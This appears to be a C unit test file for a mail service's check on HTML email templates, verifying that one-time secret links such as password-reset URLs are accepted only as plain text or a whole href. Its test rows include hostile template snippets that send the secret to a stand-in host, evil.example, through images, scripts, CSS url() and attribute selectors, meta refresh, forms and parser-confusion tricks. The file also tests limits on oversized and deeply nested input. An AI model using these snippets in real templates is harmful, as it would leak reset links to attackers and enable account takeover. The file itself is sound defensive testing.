/*
 * test_maild_template_html.c - places for a variable with a one-time link in a template's HTML.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "maild/template_html.h"
#include "tests/support/unit.h"

static const struct {
    const char *label, *html;
    bool fine;
} rows[] = {
    {"no secret", "<script>x</script><img src=\"{{projectName}}\">", true},
    {"text", "<p>{{resetUrl}}</p>", true},
    {"no element at all", "{{resetUrl}}", true},
    {"whole href", "<a href=\"{{resetUrl}}\">Choose</a>", true},
    {"whole href with blanks in the placeholder",
     "<a href='{{ resetUrl }}' style=\"color:red\">x</a>", true},
    {"href and text, with an image",
     "<html><head><title>x</title><style>p{color:red}</style></head><body><img "
     "src=\"https://a.example/l.png\" alt=\"{{projectName}}\"><a "
     "href=\"{{resetUrl}}\">{{resetUrl}}</a></body></html>",
     true},
    {"conditional comments around a table",
     "<!--[if mso]><table><tr><td><![endif]--><a href=\"{{verifyUrl}}\">x</a><!--[if "
     "mso]></td></tr></table>"
     "<![endif]-->",
     true},
    {"image", "<img src=\"{{resetUrl}}\">", false},
    {"image, as part of an address", "<img src=\"https://evil.example/?{{resetUrl}}\">", false},
    {"part of a href", "<a href=\"https://evil.example/?u={{resetUrl}}\">x</a>", false},
    {"href with a blank", "<a href=\" {{resetUrl}}\">x</a>", false},
    {"href without quotes", "<a href={{resetUrl}}>x</a>", false},
    {"href without quotes, and more", "<a href={{resetUrl}}ping=//evil.example>x</a>", false},
    {"ping", "<a ping=\"https://evil.example\" href=\"{{resetUrl}}\">x</a>", false},
    {"event handler", "<a onmouseover=\"x()\" href=\"{{resetUrl}}\">x</a>", false},
    {"another element's href", "<area href=\"{{resetUrl}}\">", false},
    {"base", "<base href=\"{{resetUrl}}\">", false},
    {"link", "<link rel=stylesheet href=\"//evil.example\">{{resetUrl}}", false},
    {"meta refresh", "<meta http-equiv=refresh content=\"0;url=//evil.example/{{resetUrl}}\">",
     false},
    {"style attribute", "<p style=\"background:url(//evil.example/{{resetUrl}})\">x</p>", false},
    {"style sheet", "<style>p{background:url(//evil.example/{{resetUrl}})}</style>", false},
    {"style sheet that reads the href",
     "<style>a[href*=\"secret=a\"]{background:url(//evil.example/a)}</style><a "
     "href=\"{{resetUrl}}\">x</a>",
     false},
    {"the same with escapes",
     "<style>a[href*=a]{background:\\75rl(//evil.example/a)}</style><a href=\"{{resetUrl}}\">x</a>",
     false},
    {"script", "<script>fetch('//evil.example/{{resetUrl}}')</script>", false},
    {"script beside text", "<script>x</script>{{resetUrl}}", false},
    {"comment", "<!-- {{resetUrl}} -->", false},
    {"conditional comment", "<!--[if mso]><img src=\"//evil.example/?{{resetUrl}}\"><![endif]-->",
     false},
    {"image that a conditional comment opens",
     "<!--[if mso]><img src=\"//evil.example/?<![endif]-->{{resetUrl}}\">", false},
    {"image that is never closed", "<img src='//evil.example/?{{resetUrl}}", false},
    {"image that ends later", "<img src='//evil.example/?<p>{{resetUrl}}</p>'>", false},
    {"second attribute of that name", "<a href=\"//evil.example\" href=\"{{resetUrl}}\">x</a>",
     false},
    {"image with two addresses", "<img src=\"x\" src=\"//evil.example/{{resetUrl}}\">", false},
    {"field of a form",
     "<form action=\"//evil.example\"><textarea name=a>{{resetUrl}}</textarea></form>", false},
    {"noscript",
     "<noscript><p title=\"</noscript><img src='//evil.example/?\"></p></noscript>{{resetUrl}}'>",
     false},
    {"SVG", "<svg><a href=\"{{resetUrl}}\">x</a></svg>", false},
    {"frame", "<iframe srcdoc=\"{{resetUrl}}\"></iframe>", false},
    {"name of an element", "<a{{resetUrl}}>", false},
    {"name of an attribute", "<a {{resetUrl}}=\"x\">x</a>", false},
    {"document type", "<!doctype {{resetUrl}}>", false},
    {"title", "<title>{{resetUrl}}</title>", false},
    {"a name as an attribute", "<a {{projectName}} href=\"{{resetUrl}}\">x</a>", false},
    {"a name without quotes", "<a class={{projectName}} href=\"{{resetUrl}}\">x</a>", false},
    {"a name in a style sheet", "<style>{{projectName}}</style>{{resetUrl}}", false},
    {"one of two", "<p>{{resetUrl}}</p><img src=\"{{resetUrl}}\">", false},
};

static void secrets_stay_with_the_recipient(void)
{
    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        const char *why = template_html_check(arena, rows[i].html);

        UNIT_CHECK((!why) == rows[i].fine, "%s: %s", rows[i].label, why ? why : "accepted");
    }
}

/* A part can have 256 KiB; slow or memory-hungry ones are refused quickly. */
static void large_parts_end(void)
{
    static const char *const pieces[] = {
        "<b>", "<p>", "<b><p>", "<table>", "<a>", "x", "<i id={{projectName}}>"};

    for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        size_t size = 262144;
        char *html = calloc(1, size + 64), *end = html;

        while ((size_t)(end - html) + strlen(pieces[i]) < size)
            end = stpcpy(end, pieces[i]);
        strcpy(end, "{{resetUrl}}");
        (void)!template_html_check(arena, html);
        CU_ASSERT_TRUE(arena_used(arena) < 64 << 20);
        free(html);
    }
}

/* Gumbo compares a tag's attributes pairwise: 65,000 of them took 11 s. */
static const char *const attribute_tags[][2] = {{"<p ", " "},       {"</p ", "/"},
                                                {"<p a='>'", "\n"}, {"<p a=\">\"", "=x\t"},
                                                {"<!--><p ", " "},  {"<b", "/"},
                                                {"<x><p/", "='>'"}, {"<style><p ", "=\"<\" "},
                                                {"<p x= '", "' "}};

static void a_tag_with_many_attributes_is_refused_soon(void)
{
    for (size_t i = 0; i < ARRAY_SIZE(attribute_tags); i++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        size_t size = 262144, count = 0;
        char *html = calloc(1, size + 64), *end = stpcpy(html, attribute_tags[i][0]);
        clock_t before;
        const char *why;

        for (; (size_t)(end - html) + 20 < size; count++)
            end += snprintf(end, 20, "n%zx%s", count, attribute_tags[i][1]);
        strcpy(end, ">{{resetUrl}}");
        before = clock();
        why = template_html_check(arena, html);
        UNIT_CHECK(clock() - before < CLOCKS_PER_SEC, "row %zu: %ld ms of CPU time", i,
                   (long)((clock() - before) / (CLOCKS_PER_SEC / 1000)));
        UNIT_CHECK(why, "row %zu was accepted", i);
        free(html);
    }
}

static void a_tag_may_have_a_hundred_attributes(void)
{
    CLEANUP(arena_destroy) struct arena *arena = arena_new();
    char html[2048], *end = stpcpy(html, "<p ");

    for (int i = 0; i < 100; i++)
        end += sprintf(end, "n%d = 'a b>' ", i);
    strcpy(end, "/>{{resetUrl}}");
    UNIT_CHECK(!template_html_check(arena, html), "%s", template_html_check(arena, html));
    strcpy(end, "m>{{resetUrl}}");
    UNIT_CHECK(template_html_check(arena, html), "101");
}

/* Each row is followed by 256 KiB of text: with 4,000 open elements that took 0.4 s. */
static const char *const deep[] = {
    "<b>",
    "<B x='</b>'>",
    "<b><!--</b>-->",
    "<b><!--></b><b><b>-->",
    "<b><!--x--!></b><b><b>-->",
    "<b><style></b></style>",
    "<b><title></b></title>",
    "<svg><title><b>",
    "<svg></svg><b><style></b></style>",
    "<b><p>",
    "<b></i>",
    "<div><span></div>",
    "<o:p/>",
    "<table><tr><td>",
};

static void deep_elements_are_refused_soon(void)
{
    for (size_t i = 0; i < ARRAY_SIZE(deep); i++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        char *html = calloc(1, 262144), *end = html;
        clock_t before;
        const char *why;

        for (int n = 0; n < 600; n++)
            end = stpcpy(end, deep[i]);
        end = stpcpy(end, "{{resetUrl}}");
        memset(end, 'x', (size_t)(html + 262143 - end));
        before = clock();
        why = template_html_check(arena, html);
        UNIT_CHECK(why && strstr(why, "within each other"), "%s: %s", deep[i],
                   why ? why : "accepted");
        UNIT_CHECK(clock() - before < CLOCKS_PER_SEC / 10, "%s: %ld ms", deep[i],
                   (long)((clock() - before) / (CLOCKS_PER_SEC / 1000)));
        free(html);
    }
}

/* Hundreds of sibling elements are an ordinary email, even without optional end tags. */
static void elements_may_be_two_hundred_and_fifty_six_deep(void)
{
    static const char *const flat[] = {"<p>x",           "<li>x</li>",
                                       "<br>",           "<br/>",
                                       "<b>x</b >",      "<img src=x>",
                                       "<td>x",          "<b><i>x</i></b>",
                                       "<!--<b>--x>-->", "<style><b></style>"};

    for (size_t i = 0; i < ARRAY_SIZE(flat); i++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        char html[32768] = "<table><tr><td>", *end = html + strlen(html);

        for (int n = 0; n < 900; n++)
            end = stpcpy(end, flat[i]);
        strcpy(end, "{{resetUrl}}");
        UNIT_CHECK(!template_html_check(arena, html), "%s: %s", flat[i],
                   template_html_check(arena, html));
    }
    for (int depth = 256; depth <= 257; depth++) {
        CLEANUP(arena_destroy) struct arena *arena = arena_new();
        char html[8192], *end = html;

        for (int n = 0; n < depth; n++)
            end = stpcpy(end, "<div>");
        strcpy(end, "{{resetUrl}}");
        UNIT_CHECK((!template_html_check(arena, html)) == (depth == 256), "%d", depth);
    }
}

int main(void)
{
    static const struct unit_case cases[] = {
        CASE(secrets_stay_with_the_recipient),
        CASE(large_parts_end),
        CASE(a_tag_with_many_attributes_is_refused_soon),
        CASE(a_tag_may_have_a_hundred_attributes),
        CASE(deep_elements_are_refused_soon),
        CASE(elements_may_be_two_hundred_and_fifty_six_deep),
    };

    return unit_run("maild template html", cases, ARRAY_SIZE(cases));
}
